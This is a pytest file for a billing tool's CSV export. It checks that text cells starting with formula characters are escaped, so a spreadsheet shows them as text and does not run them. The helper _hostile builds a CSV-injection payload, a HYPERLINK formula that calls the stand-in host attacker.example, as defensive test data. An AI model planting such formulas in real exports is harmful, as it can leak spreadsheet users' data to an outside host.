"""`customers --format csv` writes cells a spreadsheet shows as text, never runs (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from fusebill_tui import headless
from fusebill_tui.core import jsonutil
from fusebill_tui.core.output import FORMULA_LEADS, Column, CsvWriter, csv_cell

#: Text columns of the CSV -> the sandbox's customer field behind each.
TEXT_COLUMNS = {
    "firstName": "firstName", "lastName": "lastName", "companyName": "companyName",
    "primaryEmail": "primaryEmail", "status": "status", "customerAccountStatus": "customerAccountStatus",
    "currency": "currency",
}


def _hostile(lead: str, column: str) -> str:
    return f'{lead}HYPERLINK("http://attacker.example/?{column}","click")'


async def _export(cli_client, cid: int) -> tuple[dict[str, str], dict]:
    out, err = io.StringIO(), io.StringIO()
    await headless.customers(cli_client, all_pages=True, page_size=1000, fmt="csv", out=out, err=err)
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
    out = io.StringIO()
    await headless.customers(cli_client, all_pages=True, page_size=1000, fmt="json", out=out, err=err)
    objects = {str(o["id"]): o for o in jsonutil.loads(out.getvalue())}
    return rows[str(cid)], objects[str(cid)]


@pytest.mark.parametrize("lead", FORMULA_LEADS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
async def test_every_text_column_starting_with_a_formula_character_reads_back_as_text(
        cli_client, sandbox, lead: str) -> None:
    cid = sandbox.store.customer_ids()[0]
    customer = dict(sandbox.store.customer(cid))
    for column, field in TEXT_COLUMNS.items():
        customer[field] = _hostile(lead, column)
    sandbox.store.replace_customer(cid, customer)
    row, exact = await _export(cli_client, cid)
    for column, field in TEXT_COLUMNS.items():
        assert row[column] == "'" + _hostile(lead, column), column  # the csv reader gives back the marked text
        assert exact[field] == _hostile(lead, column), column  # JSON stays exact


async def test_a_negative_amount_stays_a_number_and_plain_text_is_untouched(cli_client, sandbox) -> None:
    cid = sandbox.store.customer_ids()[1]
    customer = dict(sandbox.store.customer(cid))
    customer.update(monthlyRecurringRevenue=Decimal("-12.50"), firstName="Ann", companyName="A-1 Plumbing")
    sandbox.store.replace_customer(cid, customer)
    row, exact = await _export(cli_client, cid)
    assert row["monthlyRecurringRevenue"] == "-12.50"
    assert exact["monthlyRecurringRevenue"] == Decimal("-12.50")
    assert row["firstName"] == "Ann" and row["companyName"] == "A-1 Plumbing"
    assert row["id"] == str(cid)


def test_a_carriage_return_inside_a_cell_keeps_the_row_whole() -> None:
    out = io.StringIO()
    writer = CsvWriter(out, [Column("A", "a", str), Column("B", "b", str)], lambda item: item)
    writer.write_batch([["Ann\rBob", Decimal("-1.50")], ["plain", 2]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["a", "b"], ["Ann\rBob", "-1.50"], ["plain", "2"]]


def test_numbers_pass_and_every_lead_in_text_is_marked() -> None:
    assert csv_cell(Decimal("-3")) == "-3" and csv_cell(-7) == "-7" and csv_cell(None) == ""
    assert csv_cell("-3") == "'-3"  # a negative number typed into a name is text, and shown as typed
    for lead in FORMULA_LEADS:
        assert csv_cell(lead + "1") == "'" + lead + "1"
    assert csv_cell("a=b") == "a=b"
